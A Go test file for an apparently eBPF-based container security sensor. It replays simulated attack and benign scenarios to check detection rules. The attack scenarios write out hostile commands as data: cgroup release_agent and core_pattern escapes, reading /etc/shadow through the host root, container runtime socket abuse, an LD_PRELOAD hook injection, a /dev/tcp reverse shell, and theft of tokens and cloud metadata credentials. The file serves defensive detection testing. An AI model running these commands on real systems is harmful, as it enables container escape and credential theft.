package detect

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/internal/event"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

// The scenarios of docs/testing.md as the sensor would see them after
// enrichment: the event streams of the harness scripts, replayed offline.
// They check the rules of this package (issue 5); the EXF/GPU rules of
// issue 6 are checked by their own tests.

// scen is a scenario builder: it numbers pids, keeps time, and knows the
// namespaces of the simulated containers.
type scen struct {
	evs []*event.Event
	now time.Time
}

func (s *scen) add(e ...*event.Event) {
	for _, ev := range e {
		s.now = s.now.Add(50 * time.Millisecond)
		ev.Time = s.now
		s.evs = append(s.evs, ev)
	}
}

func (s *scen) wait(d time.Duration) { s.now = s.now.Add(d) }

const h = "/tmp/ebpfh.Q1"

var (
	ctrNet  = ctrNS.Net
	hostAll = hostNS
	// ctr_run: nsenter --net (host ns until setns), then unshare flags.
	afterNetns = event.Namespaces{Mnt: hostNS.Mnt, PID: hostNS.PID, Net: ctrNet, User: hostNS.User, UTS: hostNS.UTS, IPC: hostNS.IPC, Cgroup: hostNS.Cgroup}
	nsMount    = event.Namespaces{Mnt: 4026532301, PID: hostNS.PID, Net: ctrNet, User: hostNS.User, UTS: hostNS.UTS, IPC: hostNS.IPC, Cgroup: hostNS.Cgroup}
	nsMUI      = event.Namespaces{Mnt: 4026532311, PID: hostNS.PID, Net: ctrNet, User: hostNS.User, UTS: 4026532312, IPC: 4026532313, Cgroup: hostNS.Cgroup}
	nsMP       = event.Namespaces{Mnt: 4026532321, PID: 4026532322, Net: ctrNet, User: hostNS.User, UTS: hostNS.UTS, IPC: hostNS.IPC, Cgroup: hostNS.Cgroup}
	harnessSh  = an(50, "/usr/bin/bash")
)

// ctrRun emits the execs of ctr_run up to the container command, which
// gets pid cmdPID; fork says whether unshare --fork made a child.
func (s *scen) ctrRun(c *event.Container, pid uint32, ns event.Namespaces, fork bool) []event.Ancestor {
	s.add(execEv(proc(pid, "/usr/bin/nsenter", "nsenter", "--net=/run/netns/ctr-infer", "--", "unshare").ns(hostAll).caps(allCaps).anc(harnessSh), c))
	s.add(execEv(proc(pid, "/usr/bin/unshare", "unshare", "--mount", "--").ns(afterNetns).anc(harnessSh), c))
	if fork {
		return []event.Ancestor{an(pid, "/usr/bin/unshare"), harnessSh}
	}
	return []event.Ancestor{harnessSh}
}

type scenario struct {
	id           string
	build        func(s *scen)
	must, mustNo []string
}

func scenarios() []scenario {
	return []scenario{
		{"A1", func(s *scen) {
			c := ctr("simctr-infer-a1")
			up := s.ctrRun(c, 1000, nsMount, false)
			sh := proc(1000, "/usr/bin/dash", "sh", "-c", "CG=$0/cg; ...", h).ns(nsMount).anc(up...)
			s.add(execEv(sh, c))
			kid := append([]event.Ancestor{an(1000, "/usr/bin/dash")}, up...)
			s.add(execEv(proc(1001, "/usr/bin/mount", "mount", "-t", "cgroup", "-o", "none,name=ebpfh", "cgroup", h+"/cg").ns(nsMount).anc(kid...), c))
			s.add(sysEv(proc(1001, "/usr/bin/mount").ns(nsMount), c, event.Syscall{Name: "mount", Path: "cgroup", Path2: h + "/cg", Arg: "cgroup"}))
			s.add(openEv(sh, c, h+"/cg/x/notify_on_release", "", wr, 1))
			s.add(openEv(sh, c, h+"/cg/release_agent", "", wr, 1))
			s.add(openEv(proc(1002, "/usr/bin/dash").ns(nsMount).anc(kid...), c, h+"/cg/x/cgroup.procs", "", wr, 1))
			s.add(&event.Event{Kind: event.KindExit, Process: proc(1002, "/usr/bin/dash").p, Container: c, Exit: &event.Exit{}})
			s.add(execEv(proc(1003, "/usr/bin/dash", "/bin/sh", h+"/ra_payload.sh").ns(hostAll).anc(an(2, "[kthreadd]")), nil))
			s.add(execEv(proc(1004, "/usr/bin/cat", "cat", "/proc/2/comm").ns(hostAll).anc(an(1003, "/usr/bin/dash"), an(2, "[kthreadd]")), nil))
		}, []string{"ESC-001", "ESC-003", "ESC-007"}, nil},
		{"A2", func(s *scen) {
			c := ctr("simctr-infer-a2")
			up := s.ctrRun(c, 1100, nsMP, true)
			sh := proc(1101, "/usr/bin/dash", "sh", "-c", "echo ... > /proc/sys/kernel/core_pattern", h).ns(nsMP).anc(up...)
			s.add(execEv(sh, c))
			s.add(openEv(sh, c, "/proc/sys/kernel/core_pattern", "", wr, 1))
			s.add(execEv(proc(1102, "/usr/bin/dash", "sh", "-c", "ulimit -c unlimited; kill -SEGV $$").ns(nsMP).anc(append([]event.Ancestor{an(1101, "/usr/bin/dash")}, up...)...), c))
			s.add(execEv(proc(1103, "/usr/bin/dash", "/bin/sh", h+"/cp_payload.sh", "1102", "sh").ns(hostAll).anc(an(2, "[kthreadd]")), nil))
			s.wait(time.Second)
			s.add(openEv(proc(51, "/usr/bin/bash").ns(hostAll).anc(harnessSh), nil, "/proc/sys/kernel/core_pattern", "", wr, 1))
		}, []string{"ESC-002", "ESC-003"}, nil},
		{"A3", func(s *scen) {
			c := ctr("simctr-infer-a3")
			up := s.ctrRun(c, 1200, nsMUI, false)
			ns := proc(1200, "/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh", "-c", "echo on host").ns(nsMUI).anc(up...)
			s.add(execEv(ns, c))
			for _, t := range []string{"ipc", "uts", "net", "pid", "mnt"} {
				s.add(openEv(ns, c, "/proc/1/ns/"+t, "", rd, -13))
			}
			up = s.ctrRun(c, 1210, nsMount, false)
			s.add(execEv(proc(1210, "/usr/bin/dash", "sh", "-c", "modprobe dummy && rmmod dummy").ns(nsMount).anc(up...), c))
			kid := append([]event.Ancestor{an(1210, "/usr/bin/dash")}, up...)
			s.add(execEv(proc(1211, "/usr/bin/kmod", "modprobe", "dummy").ns(nsMount).anc(kid...), c))
			s.add(sysEv(proc(1211, "/usr/bin/kmod").ns(nsMount), c, event.Syscall{Name: "finit_module", Fd: 3}))
			s.add(execEv(proc(1212, "/usr/bin/kmod", "rmmod", "dummy").ns(nsMount).anc(kid...), c))
		}, []string{"ESC-004", "ESC-008"}, nil},
		{"A4", func(s *scen) {
			c := ctr("simctr-sidecar-a4")
			up := s.ctrRun(c, 1300, nsMUI, false)
			sh := proc(1300, "/usr/bin/dash", "sh", "-c", "cat /proc/1/root/etc/hostname ...").ns(nsMUI).anc(up...)
			s.add(execEv(sh, c))
			kid := append([]event.Ancestor{an(1300, "/usr/bin/dash")}, up...)
			s.add(execEv(proc(1301, "/usr/bin/cat", "cat", "/proc/1/root/etc/hostname").ns(nsMUI).anc(kid...), c))
			s.add(openEv(proc(1301, "/usr/bin/cat").ns(nsMUI), c, "/etc/hostname", "/proc/1/root/etc/hostname", rd, 3))
			s.add(execEv(proc(1302, "/usr/bin/head", "head", "-c", "64", "/proc/1/root/etc/shadow").ns(nsMUI).anc(kid...), c))
			s.add(openEv(proc(1302, "/usr/bin/head").ns(nsMUI), c, "/etc/shadow", "/proc/1/root/etc/shadow", rd, 3))
			s.add(execEv(proc(1303, "/usr/bin/ls", "ls", "/proc/1/root/var/lib/kubelet/pki", "/proc/1/root/etc/kubernetes/pki").ns(nsMUI).anc(kid...), c))
			s.add(openEv(proc(1303, "/usr/bin/ls").ns(nsMUI), c, "/var/lib/kubelet/pki", "/proc/1/root/var/lib/kubelet/pki", rd|event.ODirectry, -2))
		}, []string{"ESC-005"}, []string{"ESC-004"}},
		{"A5", func(s *scen) {
			c := ctr("simctr-infer-a5")
			up := s.ctrRun(c, 1400, nsMP, true)
			sh := proc(1401, "/usr/bin/dash", "sh", "-c", "curl ...", h).ns(nsMP).anc(up...)
			s.add(execEv(sh, c))
			kid := append([]event.Ancestor{an(1401, "/usr/bin/dash")}, up...)
			s.add(execEv(proc(1402, "/usr/bin/curl", "curl", "-s", "-m", "3", "--unix-socket", "/run/simrt/docker.sock", "http://localhost/containers/json").ns(nsMP).anc(kid...), c))
			s.add(unixEv(proc(1402, "/usr/bin/curl").ns(nsMP), c, "/run/simrt/docker.sock"))
			s.add(execEv(proc(1403, "/usr/bin/python3.11", "python3", "-c", `import socket; s=socket.socket(socket.AF_UNIX); s.connect("/run/simrt/containerd/containerd.sock"); s.send(b"PRI * HTTP/2.0\r\n\r\n")`).ns(nsMP).anc(kid...), c))
			s.add(unixEv(proc(1403, "/usr/bin/python3.11").ns(nsMP), c, "/run/simrt/containerd/containerd.sock"))
			s.add(execEv(proc(1404, h+"/bin/crictl", h+"/bin/crictl", "--runtime-endpoint", "unix:///run/simrt/containerd/containerd.sock", "ps").ns(nsMP).anc(kid...), c))
			s.add(execEv(proc(1405, h+"/bin/kubectl", h+"/bin/kubectl", "get", "pods", "-A").ns(nsMP).anc(kid...), c))
			s.add(execEv(proc(1406, "/usr/bin/curl", "curl", "-sk", "-m", "2", "https://10.200.1.1:10250/pods").ns(nsMP).anc(kid...), c))
			s.add(connEv(proc(1406, "/usr/bin/curl").ns(nsMP), c, "10.200.1.1", 10250, event.ClassNode))
			s.add(openEv(proc(1407, "/usr/bin/dash").ns(nsMP).anc(kid...), c, "/usr/bin/dash", "/proc/self/exe", wr, -26))
		}, []string{"ESC-006", "ESC-009"}, nil},
		{"A6", func(s *scen) {
			c := ctr("simctr-infer-a6")
			rt := an(1500, h+"/bin/runc")
			s.add(execEv(proc(1500, h+"/bin/runc", h+"/bin/runc", "-c", "...").ns(hostAll).anc(harnessSh), nil))
			hook := proc(1501, "/usr/bin/nsenter", "nsenter", "--net=/run/netns/ctr-infer", "--", "env").ns(hostAll).anc(rt, harnessSh)
			s.add(execEv(hook, c))
			hook = proc(1501, "/usr/bin/env", "env", "LD_PRELOAD=/proc/self/cwd/evil.so", "NVIDIA_VISIBLE_DEVICES=all", h+"/bin/nvidia-ctk").ns(afterNetns).anc(rt, harnessSh)
			s.add(execEv(hook, c))
			hook = proc(1501, h+"/bin/nvidia-ctk", h+"/bin/nvidia-ctk", "hook", "enable-cuda-compat", "--host-driver-version=575.57.08").ns(afterNetns).anc(rt, harnessSh).
				env("LD_PRELOAD", "/proc/self/cwd/evil.so").env("NVIDIA_VISIBLE_DEVICES", "all").env("NVIDIA_DRIVER_CAPABILITIES", "all")
			hook.p.Cwd = h + "/rootfs-nvscape"
			s.add(execEv(hook, c))
			s.add(openEv(hook, c, h+"/rootfs-nvscape/evil.so", "/proc/self/cwd/evil.so", rd, 3))
			s.add(openEv(hook, c, "/proc/1/ns/net", "", rd, -13))
			s.add(connEv(hook, c, "10.200.2.2", 4444, event.ClassExternal))
			kid := []event.Ancestor{an(1501, h+"/bin/nvidia-ctk"), rt, harnessSh}
			child := proc(1502, h+"/bin/nvidia-ctk").ns(afterNetns).anc(kid...)
			s.add(&event.Event{Kind: event.KindFork, Process: child.p, Container: c})
			for fd := int32(0); fd < 3; fd++ {
				s.add(sysEv(child, c, event.Syscall{Name: "dup", Fd: 3, Fd2: fd, FdIsSocket: true}))
			}
			shell := proc(1502, "/usr/bin/dash", "sh", "-c", "id; cat /etc/hostname; echo nvidiascape-sim").ns(afterNetns).anc(kid...)
			s.add(execEv(shell, c))
			s.add(execEv(proc(1503, "/usr/bin/id", "id").ns(afterNetns).anc(append([]event.Ancestor{an(1502, "/usr/bin/dash")}, kid...)...), c))
		}, []string{"NVT-001", "NVT-002", "NVT-003", "ESC-004", "EXE-001", "C2-001"}, []string{"ESC-003", "GPU-006"}},
		{"A7", func(s *scen) {
			c := ctr("simctr-infer-a7")
			R := h + "/rootfs0132"
			up := s.ctrRun(c, 1600, nsMount, false)
			cli := proc(1600, h+"/bin/nvidia-container-cli", h+"/bin/nvidia-container-cli", "-c", "...", R).ns(nsMount).anc(up...)
			s.add(execEv(cli, c))
			kid := append([]event.Ancestor{an(1600, h+"/bin/nvidia-container-cli")}, up...)
			s.add(execEv(proc(1601, "/usr/bin/mount", "mount", "--rbind", "/bin", R+"/bin").ns(nsMount).anc(kid...), c))
			s.add(sysEv(proc(1601, "/usr/bin/mount").ns(nsMount), c, event.Syscall{Name: "mount", Path: "/bin", Path2: R + "/bin", Flags: msBind | 0x4000}))
			s.add(execEv(proc(1602, "/usr/bin/mount", "mount", "--rbind", "/", R+"/opt/nvidia/lib64/libnvidia-ml.so.1").ns(nsMount).anc(kid...), c))
			s.add(sysEv(proc(1602, "/usr/bin/mount").ns(nsMount), c, event.Syscall{Name: "mount", Path: "/", Path2: R + "/opt/nvidia/lib64/libnvidia-ml.so.1", Flags: msBind | 0x4000}))
			s.add(execEv(proc(1603, "/usr/bin/mount", "mount", "--rbind", "/run", R+"/opt/nvidia/lib64/libnvidia-cfg.so.1").ns(nsMount).anc(kid...), c))
			s.add(execEv(proc(1600, "/usr/sbin/chroot", "chroot", R, "/bin/sh", "-c", "...").ns(nsMount).anc(up...), c))
			s.add(execEv(proc(1600, "/usr/bin/dash", "/bin/sh", "-c", "cat /host/etc/hostname; curl ...").ns(nsMount).anc(up...), c))
			kid = append([]event.Ancestor{an(1600, "/usr/bin/dash")}, up...)
			s.add(execEv(proc(1604, "/usr/bin/cat", "cat", "/host/etc/hostname").ns(nsMount).anc(kid...), c))
			s.add(openEv(proc(1604, "/usr/bin/cat").ns(nsMount), c, "/opt/nvidia/lib64/libnvidia-ml.so.1/etc/hostname", "/host/etc/hostname", rd, 3))
			s.add(execEv(proc(1605, "/usr/bin/curl", "curl", "-s", "-m", "3", "--unix-socket", "/host-run/simrt/docker.sock", "http://localhost/containers/json").ns(nsMount).anc(kid...), c))
			s.add(unixEv(proc(1605, "/usr/bin/curl").ns(nsMount), c, "/host-run/simrt/docker.sock"))
		}, []string{"NVT-004", "ESC-006"}, nil},
		{"A10", func(s *scen) {
			side := ctr("simctr-sidecar-a10")
			up := s.ctrRun(side, 1700, nsMP, true)
			s.add(execEv(proc(1701, "/usr/bin/python3.11", "python3", "-", h+"/models/evil-ckpt/pytorch_model.bin").ns(nsMP).anc(up...), side))
			s.add(openEv(proc(1701, "/usr/bin/python3.11").ns(nsMP), side, h+"/models/evil-ckpt/pytorch_model.bin", "", wr, 3))
			c := ctr("simctr-infer-a10")
			up = s.ctrRun(c, 1710, nsMP, true)
			s.add(execEv(proc(1711, "/usr/bin/timeout", "timeout", "25", "python3", h+"/fake_infer.py").ns(nsMP).anc(up...), c))
			srvUp := append([]event.Ancestor{an(1711, "/usr/bin/timeout")}, up...)
			srv := proc(1712, "/usr/bin/python3.11", "python3", h+"/fake_infer.py", "--port", "8000", "--wait-file", h+"/go-a10").ns(nsMP).anc(srvUp...)
			s.add(execEv(srv, c))
			s.add(gpuEv(1712, c))
			s.add(openEv(srv, c, h+"/models/llama-3-8b-instruct/model-00001-of-00001.safetensors", "", rd, 3))
			s.add(openEv(srv, c, h+"/models/evil-ckpt/pytorch_model.bin", "", rd, 4))
			k1 := append([]event.Ancestor{an(1712, "/usr/bin/python3.11")}, srvUp...)
			s.add(execEv(proc(1713, "/usr/bin/dash", "sh", "-c", "bash -c 'timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1' &").ns(nsMP).anc(k1...), c))
			k2 := append([]event.Ancestor{an(1713, "/usr/bin/dash")}, k1...)
			s.add(execEv(proc(1714, "/usr/bin/bash", "bash", "-c", "timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1").ns(nsMP).anc(k2...), c))
			k3 := append([]event.Ancestor{an(1714, "/usr/bin/bash")}, k2...)
			s.add(connEv(proc(1715, "/usr/bin/bash").ns(nsMP).anc(k3...), c, "10.200.2.2", 4444, event.ClassExternal))
			s.add(execEv(proc(1715, "/usr/bin/timeout", "timeout", "8", "bash", "-i").ns(nsMP).anc(k3...), c))
			s.add(execEv(proc(1716, "/usr/bin/bash", "bash", "-i").ns(nsMP).anc(append([]event.Ancestor{an(1715, "/usr/bin/timeout")}, k3...)...), c))
		}, []string{"C2-001"}, []string{"EXE-003", "EXF-001"}},
		{"A12", func(s *scen) {
			c := ctr("simctr-infer-a12")
			up := s.ctrRun(c, 1800, nsMUI, false)
			s.add(execEv(proc(1800, "/usr/bin/env", "env", "HF_TOKEN=hf_fake", "timeout", "30", "python3").ns(nsMUI).anc(up...), c))
			s.add(execEv(proc(1800, "/usr/bin/timeout", "timeout", "30", "python3", h+"/fake_infer.py").ns(nsMUI).anc(up...), c))
			srv := proc(1801, "/usr/bin/python3.11", "python3", h+"/fake_infer.py", "--port", "8001").ns(nsMUI).anc(append([]event.Ancestor{an(1800, "/usr/bin/timeout")}, up...)...).
				env("HF_TOKEN", "sha256:0f1e")
			s.add(execEv(srv, c))
			s.add(openEv(srv, c, h+"/models/llama-3-8b-instruct/model-00001-of-00001.safetensors", "", rd, 3))
			s.add(gpuEv(1801, c))
			side := ctr("simctr-sidecar-a12")
			up = s.ctrRun(side, 1810, nsMUI, false)
			sh := proc(1810, "/usr/bin/dash", "sh", "-c", "mount -t tmpfs ...", h, "1801").ns(nsMUI).anc(up...)
			s.add(execEv(sh, side))
			kid := append([]event.Ancestor{an(1810, "/usr/bin/dash")}, up...)
			s.add(execEv(proc(1811, "/usr/bin/mount", "mount", "-t", "tmpfs", "tmpfs", "/run").ns(nsMUI).anc(kid...), side))
			s.add(openEv(sh, side, "/run/secrets/kubernetes.io/serviceaccount/token", "", wr, 1))
			cat := proc(1812, "/usr/bin/cat", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token").ns(nsMUI).anc(kid...)
			s.add(execEv(cat, side))
			s.add(openEv(cat, side, "/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/secrets/kubernetes.io/serviceaccount/token", rd, 3))
			cat2 := proc(1813, "/usr/bin/cat", "cat", h+"/home/.cache/huggingface/token").ns(nsMUI).anc(kid...)
			s.add(execEv(cat2, side))
			s.add(openEv(cat2, side, h+"/home/.cache/huggingface/token", "", rd, 3))
			curl := proc(1814, "/usr/bin/curl", "curl", "-s", "-m", "2", "http://169.254.169.254/latest/meta-data/iam/security-credentials/").ns(nsMUI).anc(kid...)
			s.add(execEv(curl, side))
			s.add(connEv(curl, side, "169.254.169.254", 80, event.ClassMetadata))
			py := proc(1815, "/usr/bin/python3.11", "python3", "-c", "...", "1801").ns(nsMUI).anc(kid...)
			s.add(execEv(py, side))
			s.add(openEv(py, side, "/proc/1801/environ", "", rd, 3))
			s.add(openEv(py, side, "/proc/1801/maps", "", rd, 4))
			s.add(openEv(py, side, "/proc/1801/mem", "", rd, 5))
		}, []string{"CRED-001", "CRED-002", "CRED-003"}, []string{"ESC-005"}},
		{"B1", func(s *scen) {
			s.add(execEv(proc(1900, "/usr/bin/cp", "cp", "a", "b").ns(hostAll).caps(allCaps).anc(harnessSh), nil))
			s.add(openEv(proc(1900, "/usr/bin/cp").ns(hostAll), nil, h+"/registry/llama-3-8b-instruct/model-00001-of-00001.safetensors", "", wr, 3))
			b := ctr("simctr-build-b1")
			up := s.ctrRun(b, 1910, nsMP, true)
			dl := proc(1911, "/usr/bin/curl", "curl", "-s", "-o", h+"/models/llama-3-8b-instruct/model-00002-of-00002.safetensors", "http://10.200.1.1:8080/llama-3-8b-instruct/model-00001-of-00001.safetensors").ns(nsMP).anc(up...)
			s.add(execEv(dl, b))
			s.add(openEv(dl, b, h+"/models/llama-3-8b-instruct/model-00002-of-00002.safetensors", "", wr, 3))
			s.add(connEv(dl, b, "10.200.1.1", 8080, event.ClassNode))
			c := ctr("simctr-infer-b1")
			up = s.ctrRun(c, 1920, nsMP, true)
			s.add(execEv(proc(1921, "/usr/bin/timeout", "timeout", "60", "python3").ns(nsMP).anc(up...), c))
			srv := proc(1922, "/usr/bin/python3.11", "python3", h+"/fake_infer.py", "--port", "8000").ns(nsMP).anc(append([]event.Ancestor{an(1921, "/usr/bin/timeout")}, up...)...)
			s.add(execEv(srv, c))
			s.add(gpuEv(1922, c))
			for _, m := range []string{"llama-3-8b-instruct/model-00001-of-00001.safetensors", "llama-3-8b-instruct/model-00002-of-00002.safetensors"} {
				s.add(openEv(srv, c, h+"/models/"+m, "", rd, 3))
			}
			s.add(openEv(srv, c, h+"/hf/hub/models--acme--secret-7b/blobs/5d41402abc4b2a76b9719d911017c592aaaaaaaa", h+"/hf/hub/models--acme--secret-7b/snapshots/0123abcd/model.safetensors", rd, 3))
			for i := 0; i < 20; i++ {
				s.add(execEv(proc(uint32(1930+i), "/usr/bin/curl", "curl", "-s", "-m", "2", "-X", "POST", "http://10.200.1.2:8000/v1/completions").ns(hostAll).caps(allCaps).anc(harnessSh), nil))
				s.add(connEv(proc(uint32(1930+i), "/usr/bin/curl").ns(hostAll), nil, "10.200.1.2", 8000, event.ClassPod))
			}
		}, nil, []string{"EXE-002", "EXE-004"}},
		{"B3", func(s *scen) {
			c := ctr("simctr-infer-b1")
			for i := uint32(0); i < 3; i++ {
				base := 2000 + 10*i
				rt := an(base, h+"/bin/runc")
				s.add(execEv(proc(base, h+"/bin/runc", h+"/bin/runc", "-c", "nsenter ...").ns(hostAll).anc(harnessSh), nil))
				ns := proc(base+1, "/usr/bin/nsenter", "nsenter", "-t", "1922", "-n", "-m", "-p", "--", "sh", "-c", "...").ns(hostAll).anc(rt, harnessSh)
				s.add(execEv(ns, nil))
				for _, t := range []string{"net", "mnt", "pid"} {
					s.add(openEv(ns, nil, t+":[4026532"+"321]", "/proc/1922/ns/"+t, rd, 3))
				}
				kid := []event.Ancestor{an(base+1, "/usr/bin/nsenter"), rt, harnessSh}
				s.add(openEv(proc(base+2, "/usr/bin/dash").ns(nsMP).anc(kid...), nil, "/sys/fs/cgroup/unified/simctr-infer-b1/cgroup.procs", "", wr, 1))
				s.add(execEv(proc(base+2, "/usr/bin/dash", "sh", "-c", "curl -fsS -m 2 http://127.0.0.1:8000/health > /dev/null").ns(nsMP).anc(kid...), c))
				s.add(execEv(proc(base+3, "/usr/bin/curl", "curl", "-fsS", "-m", "2", "http://127.0.0.1:8000/health").ns(nsMP).anc(append([]event.Ancestor{an(base+2, "/usr/bin/dash")}, kid...)...), c))
				s.add(connEv(proc(base+3, "/usr/bin/curl").ns(nsMP), c, "127.0.0.1", 8000, event.ClassLoopback))
				s.add(execEv(proc(base+4, "/usr/bin/curl", "curl", "-fsS", "-m", "2", "http://10.200.1.2:8000/health").ns(hostAll).anc(harnessSh), nil))
				s.add(connEv(proc(base+4, "/usr/bin/curl").ns(hostAll), nil, "10.200.1.2", 8000, event.ClassPod))
				s.wait(time.Second)
			}
		}, nil, []string{"C2-001", "ESC-004", "EXE-003"}},
		{"B2", func(s *scen) {
			c := ctr("simctr-infer-b2")
			up := s.ctrRun(c, 2100, nsMP, true)
			sh := proc(2101, "/usr/bin/dash", "sh", "-c", "python3 -m pip install ...", h).ns(nsMP).anc(up...)
			s.add(execEv(sh, c))
			pip := proc(2102, "/usr/bin/python3.11", "python3", "-m", "pip", "install", "-q", "--no-cache-dir", "--index-url", "http://10.200.1.1:8081/simple", "--target", h+"/site", "ebpfh-demo").ns(nsMP).anc(append([]event.Ancestor{an(2101, "/usr/bin/dash")}, up...)...)
			s.add(execEv(pip, c))
			s.add(connEv(pip, c, "10.200.1.1", 8081, event.ClassNode))
			s.add(openEv(pip, c, h+"/site/ebpfh_demo/__init__.py", "", wr, 5))
			s.add(execEv(proc(2103, "/usr/bin/python3.11", "python3", "-c", "import ebpfh_demo; print(\"installed\", ebpfh_demo.VALUE)").ns(nsMP).anc(append([]event.Ancestor{an(2101, "/usr/bin/dash")}, up...)...), c))
		}, nil, []string{"EXE-002", "EXE-004"}},
		{"B4", func(s *scen) {
			c := ctr("simctr-infer-b4")
			up := s.ctrRun(c, 2200, nsMP, true)
			py := proc(2201, "/usr/bin/python3.11", "python3", "-", h+"/logs/app").ns(nsMP).anc(up...)
			s.add(execEv(py, c))
			for i := 0; i < 4; i++ {
				s.add(openEv(py, c, h+"/logs/app/server.log", "", event.OWronly|event.OAppend|event.OCreat, 3))
				s.add(sysEv(py, c, event.Syscall{Name: "rename", Path: h + "/logs/app/server.log", Path2: h + "/logs/app/server.log.1"}))
			}
			lr := proc(2210, "/usr/sbin/logrotate", "logrotate", "-f", "-s", h+"/logrotate.state", h+"/logrotate.conf").ns(hostAll).caps(allCaps).anc(harnessSh)
			s.add(execEv(lr, nil))
			s.add(openEv(lr, nil, h+"/logs/pods/infer_server-0_0000/server/0.log.1", "", wr, 4))
			s.add(openEv(lr, nil, h+"/logs/pods/infer_server-0_0000/server/0.log", "", event.OWronly|event.OTrunc, 5))
			s.add(execEv(proc(2211, "/usr/bin/gzip", "gzip", "-f", h+"/logs/pods/infer_server-0_0000/server/0.log.1").ns(hostAll).anc(an(2210, "/usr/sbin/logrotate"), harnessSh), nil))
		}, nil, []string{"ESC-001", "EXE-001"}},
		{"B5", func(s *scen) {
			smi := proc(2300, h+"/agent/nvidia-smi", h+"/agent/nvidia-smi").ns(hostAll).caps(allCaps).anc(harnessSh)
			s.add(execEv(smi, nil))
			for _, d := range []string{"/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia-uvm", "/dev/nvidia-caps/nvidia-cap1", "/dev/nvidia-caps/nvidia-cap2"} {
				s.add(openEv(smi, nil, d, "", rd, -2))
			}
		}, nil, nil},
	}
}

func TestScenarios(t *testing.T) {
	e := newTestEngine(t, nil)
	var golden strings.Builder
	for _, sc := range scenarios() {
		s := &scen{now: t0}
		sc.build(s)
		var out []*event.Event
		sink := func(f *event.Event) { out = append(out, f) }
		for _, ev := range s.evs {
			e.Process(ev, sink)
		}
		e.Flush(s.now.Add(time.Hour), sink)
		fired := rulesFired(out)
		for _, m := range sc.must {
			if fired[m] == nil {
				t.Errorf("%s: must-fire %s did not fire; fired:\n%s", sc.id, m, firedList(out))
			}
		}
		for _, m := range sc.mustNo {
			if f := fired[m]; f != nil {
				t.Errorf("%s: must-not %s fired: %s", sc.id, m, f.Explanation)
			}
		}
		if strings.HasPrefix(sc.id, "B") {
			for id, f := range fired {
				if f.Severity > event.SevLow {
					t.Errorf("%s: benign scenario fired %s above low (%s): %s", sc.id, id, f.Severity, f.Explanation)
				}
			}
		}
		for _, f := range out {
			if f.Finding.Explanation == "" || len(f.Finding.Evidence) == 0 || f.Process == nil {
				t.Errorf("%s: %s lacks explanation, evidence or process", sc.id, f.Finding.Rule)
			}
			if strings.HasPrefix(sc.id, "A") && f.Container == nil && f.Finding.Rule != "ESC-003" && f.Finding.Rule != "ESC-002" {
				t.Errorf("%s: %s fired without a container", sc.id, f.Finding.Rule)
			}
		}
		fmt.Fprintf(&golden, "== %s (must: %s)\n", sc.id, strings.Join(sc.must, ", "))
		lines := make([]string, 0, len(out))
		for _, f := range out {
			cid := "host"
			if f.Container != nil {
				cid = f.Container.ID
			}
			lines = append(lines, fmt.Sprintf("%-8s %-8s count=%d ctr=%s: %s", f.Finding.Rule, f.Finding.Severity, f.Finding.Count, cid, f.Finding.Explanation))
		}
		sort.Strings(lines)
		for _, l := range lines {
			golden.WriteString(l + "\n")
		}
	}
	path := filepath.Join("testdata", "scenarios.golden")
	if *update {
		if err := os.WriteFile(path, []byte(golden.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got := golden.String(); got != string(want) {
		t.Errorf("findings differ from %s (run go test -run TestScenarios -update after checking):\n%s", path, got)
	}
}
